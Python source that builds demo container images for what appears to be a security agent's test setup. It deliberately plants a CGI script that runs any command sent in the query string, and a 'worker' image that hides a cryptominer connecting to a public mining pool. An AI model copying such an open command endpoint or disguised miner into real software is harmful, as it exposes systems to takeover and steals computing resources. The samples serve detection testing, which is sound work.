"""The demo's images as OCI layouts, made of this machine's programs and their libraries: what a registry would have."""
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile

from place import PATH, ROOT

ENDPOINT = """#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
sh -c "$(httpd -d "$QUERY_STRING")" 2>&1
"""
APPLETS = ("sh", "httpd", "touch", "id", "cat", "wget", "sleep", "nslookup", "cp", "ls", "ps")


class Layer:
    """A tar of files, the same for the same files."""

    def __init__(self):
        self.out = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.out, mode="w")
        self.folders = set()

    def parents(self, path):
        folder = os.path.dirname(path)
        if folder and folder not in self.folders:
            self.parents(folder)
            self.folders.add(folder)
            self.entry(folder, tarfile.DIRTYPE, 0o755)

    def entry(self, path, kind, mode, data=b"", target=""):
        info = tarfile.TarInfo(path)
        info.type, info.mode, info.size, info.linkname = kind, mode, len(data), target
        self.tar.addfile(info, io.BytesIO(data))

    def folder(self, path, mode=0o755):
        self.parents(path + "/x")
        if mode != 0o755:
            self.entry(path, tarfile.DIRTYPE, mode)

    def text(self, path, text, mode=0o644):
        self.parents(path)
        self.entry(path, tarfile.REGTYPE, mode, text.encode())

    def link(self, path, target):
        self.parents(path)
        self.entry(path, tarfile.SYMTYPE, 0o777, target=target)

    def file(self, path, source, mode=0o755):
        with open(source, "rb") as file:
            data = file.read()
        self.parents(path)
        self.entry(path, tarfile.REGTYPE, mode, data)

    def program(self, path, source):
        """With the libraries it is linked with, where they are on this machine."""
        self.file(path, source)
        done = subprocess.run(["ldd", source], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, check=False)
        for word in done.stdout.split():
            if word.startswith("/") and word not in self.folders:
                self.folders.add(word)
                self.file(word.lstrip("/"), os.path.realpath(word))

    def busybox(self):
        self.file("bin/busybox", shutil.which("busybox", path=PATH))
        for name in APPLETS:
            self.link("bin/" + name, "busybox")

    def bytes(self):
        self.tar.close()
        return self.out.getvalue()


def blob(folder, data):
    digest = hashlib.sha256(data).hexdigest()
    path = os.path.join(folder, "blobs/sha256", digest)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)
    return {"digest": "sha256:" + digest, "size": len(data)}


def write(folder, layer, config):
    """An OCI layout; returns the manifest's digest."""
    data = layer.bytes()
    layer_blob = blob(folder, data)
    whole = {"architecture": "amd64" if os.uname().machine == "x86_64" else "arm64", "os": "linux", "config": config,
             "rootfs": {"type": "layers", "diff_ids": [layer_blob["digest"]]}}
    config_blob = blob(folder, json.dumps(whole).encode())
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **config_blob},
                "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", **layer_blob}]}
    found = blob(folder, json.dumps(manifest).encode())
    index = {"schemaVersion": 2, "manifests": [{"mediaType": manifest["mediaType"], **found}]}
    with open(os.path.join(folder, "index.json"), "w", encoding="ascii") as file:
        json.dump(index, file)
    with open(os.path.join(folder, "oci-layout"), "w", encoding="ascii") as file:
        json.dump({"imageLayoutVersion": "1.0.0"}, file)
    return found["digest"]


def base():
    layer = Layer()
    layer.text("etc/passwd", "root:x:0:0:root:/:/bin/sh\n")
    layer.text("etc/group", "root:x:0:\n")
    layer.folder("tmp", 0o1777)
    return layer


def shop(place, folder):
    """A web server with an endpoint that runs commands."""
    del place
    layer = base()
    layer.busybox()
    layer.text("www/cgi-bin/exec", ENDPOINT, 0o755)
    layer.text("www/index.html", "<h1>shop</h1>\n")
    return write(folder, layer, {"Env": ["PATH=" + PATH], "Entrypoint": ["/bin/httpd", "-f", "-h", "/www"],
                                 "Cmd": ["-p", "127.0.0.1:8080"]})


def worker(place, folder):
    """Looks like one of ours; somebody put a miner into it."""
    layer = base()
    layer.busybox()
    layer.program("usr/local/bin/cnrig", place.program("cnrig"))
    layer.text("usr/local/bin/worker", "#!/bin/sh\necho 'worker: ready'\n"
               "/usr/local/bin/cnrig -o pool.supportxmr.com:3333 -u 44demo\n", 0o755)
    return write(folder, layer, {"Env": ["PATH=" + PATH], "Entrypoint": ["/usr/local/bin/worker"]})


def agent(place, folder):
    layer = base()
    layer.program("usr/bin/hinomi-agent", place.program("hinomi-agent"))
    layer.file("usr/bin/hinomi-shim", place.program("hinomi-shim"))
    for name in ("bash", "cp"):
        layer.program("bin/" + name, shutil.which(name, path=PATH))
    for kind in ("rules", "policies"):
        for name in sorted(os.listdir(os.path.join(ROOT, "content", kind))):
            if name.endswith(".yaml"):
                layer.file(f"usr/share/hinomi/{kind}/{name}", os.path.join(ROOT, "content", kind, name), 0o644)
    layer.folder("var/lib/hinomi-agent")
    return write(folder, layer, {"Env": ["PATH=" + PATH], "Entrypoint": ["/usr/bin/hinomi-agent"]})


def make_all(place):
    for name, maker in (("shop", shop), ("worker", worker), ("hinomi-agent", agent)):
        maker(place, place.path("images", name))
